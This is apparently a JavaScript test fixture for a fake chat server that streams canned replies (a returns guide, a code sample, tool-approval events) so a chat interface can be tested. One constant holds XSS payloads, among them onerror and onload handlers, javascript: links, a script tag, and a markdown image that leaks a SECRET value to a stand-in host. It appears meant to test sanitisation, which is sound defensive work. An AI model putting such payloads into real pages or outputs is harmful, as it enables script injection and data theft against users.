/** What the fake server replies, by how the message begins. */

const GUIDE = `You can send anything back within **30 days**, as long as it is unworn. Here is how it goes:

1. Open *Your orders* and choose the item
2. Print the label, or show the QR code at the counter
3. Drop it off at any shop on [our map](https://shop.example/map)

| Country | Takes | Refund |
|---|:---:|---:|
| Germany | 3 days | €0.00 |
| Austria | 5 days | €4.90 |

The refund is on your card about two days after we have the parcel.`;

const CODE = `Here is a small function for that:

\`\`\`python
def total(prices: list[float]) -> float:
    """Sum, rounded to cents."""
    return round(sum(prices), 2)
\`\`\`

It uses \`round\`, so \`total([0.1, 0.2])\` gives \`0.3\`.

> Money is better kept as whole cents.

- exact
- fast
  - and easy to test`;

const HOSTILE = `<img src=x onerror="window.pwned=1"> [a](javascript:window.pwned=1) ![p](https://evil.invalid/p.png?q=SECRET)
<script>window.pwned=1</script> <style>*{display:none}</style> [b](JaVaScRiPt:alert(1)) <svg/onload=window.pwned=1>`;

export function replyTo(content, isRetry) {
  const [word, count] = content.toLowerCase().split(/\s+/);
  if (word === "error" && !isRetry) return { deltas: words(GUIDE), breaksAfter: 12 };
  if (word === "fail" && !isRetry) return { deltas: [], failsAtOnce: true };
  if (word === "slow") return { deltas: words("One two three four five six seven eight."), paceMs: 250 };
  if (word === "think") return { deltas: words("Now I know."), thinkMs: 5000 };
  if (word === "long") return { deltas: words(longText(Number(count ?? 2000))), paceMs: 1 };
  if (word === "code") return { deltas: words(CODE) };
  if (word === "tool") return { deltas: words("It is 21 °C in Graz."), tools: ["weather"] };
  if (word === "buy") {
    const asks = { event: "tool_approval_requested", name: "order", arguments: { eur: 40 } };
    return { deltas: words("It is on its way."), asks };
  }
  if (word === "page") {
    const asks = { event: "tool_call_requested", name: "cart", arguments: { of: "me" } };
    return { deltas: [], asks };
  }
  if (word === "where") {
    const asks = { event: "tool_call_requested", name: "current_page", arguments: {} };
    return { deltas: [], asks };
  }
  if (word === "hostile") return { deltas: [...HOSTILE] };
  if (word === "echo") return { deltas: words(content.slice(5)) };
  return { deltas: words(GUIDE) };
}

function words(text) {
  return text.match(/\s*\S+|\s+$/g) ?? [];
}

function longText(count) {
  const parts = [];
  for (let index = 1; index <= count; index += 1) {
    parts.push(index % 60 === 0 ? `word${index}.\n\n` : `word${index} `);
  }
  return parts.join("");
}
